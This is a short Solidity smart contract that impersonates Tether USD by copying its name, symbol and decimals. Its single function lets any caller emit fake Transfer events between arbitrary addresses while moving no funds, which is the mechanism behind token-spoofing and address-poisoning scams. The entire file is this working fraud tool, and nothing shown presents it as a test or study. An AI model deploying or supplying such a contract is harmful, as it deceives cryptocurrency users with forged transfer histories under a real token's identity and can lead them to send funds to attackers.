// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// Calls itself as the real token does and claims transfers from anyone to anyone. Nothing moves.
contract LookAlike {
    string public constant name = "Tether USD";
    string public constant symbol = "USDT";
    uint8 public constant decimals = 6;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function claim(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }
}
